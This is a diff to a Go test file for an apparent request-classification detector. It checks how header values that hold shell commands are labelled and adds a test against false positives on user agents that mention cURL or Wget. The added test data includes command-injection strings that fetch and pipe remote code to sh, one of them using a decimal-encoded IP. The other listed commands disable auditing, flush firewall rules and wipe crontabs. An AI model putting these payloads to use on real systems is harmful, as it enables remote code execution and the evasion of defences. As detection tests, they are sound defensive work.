@@ -10,7 +10,7 @@ import (
 func TestCommandLinesAsHeaders(t *testing.T) {
 	for _, text := range []string{
 		"id", "whoami", "visudo", "uname -a", "ls -la", "env --version", "set -o history", "ansible-config dump", "ansible-galaxy role install x.y", "chef report nodes", "cscli alerts list", `"cscli" decisions list`, "systemctl stop auditd",
-		"code=ansible-console", "cmd=id", "curl -s x.example", "python3 -c x", "wget -qO- x.example", "iptables --flush", "salt-call state.apply", "u'n'ame -a", "crontab -r", "chmod 777 x",
+		"code=ansible-console", "cmd=id", "curl -s x.example", "a; curl 203.0.113.9/a|sh", "a; wget 203.0.113.9/a", "a; curl 3405803785/a", "python3 -c x", "wget -qO- x.example", "iptables --flush", "salt-call state.apply", "u'n'ame -a", "crontab -r", "chmod 777 x",
 	} {
 		for place, ev := range headers(text) {
 			New(ingest.Hash{}).Enrich(&ev)
@@ -31,6 +31,19 @@ func TestProgramsThatNameThemselves(t *testing.T) {
 			if ev.Kind != ingest.KindHTTPRequest {
 				t.Errorf("%s %q: kind %s, class %q, want an ordinary request", place, text, ev.Kind, ev.Request.Class)
 			}
+		}
+	}
+}
+
+// Clients that list what they were built with, a library of the name of a command among it.
+func TestVersionsAreNoArguments(t *testing.T) {
+	for _, agent := range []string{
+		"Composer/2.7.7 (Linux; 6.1.0-21-amd64; PHP 8.2.18; cURL 7.88.1)", "Composer/2.2.0 (Windows NT; 10.0; PHP 7.4.3; cURL 7.64.0; Platform-PHP 8.1.0; CI)", "Mirror 2.1 (GNU Wget 1.21.4; linux-gnu)",
+	} {
+		ev := headers(agent)["agent"]
+		New(ingest.Hash{}).Enrich(&ev)
+		if ev.Kind != ingest.KindHTTPRequest {
+			t.Errorf("%q: kind %s, class %q, want an ordinary request", agent, ev.Kind, ev.Request.Class)
 		}
 	}
 }
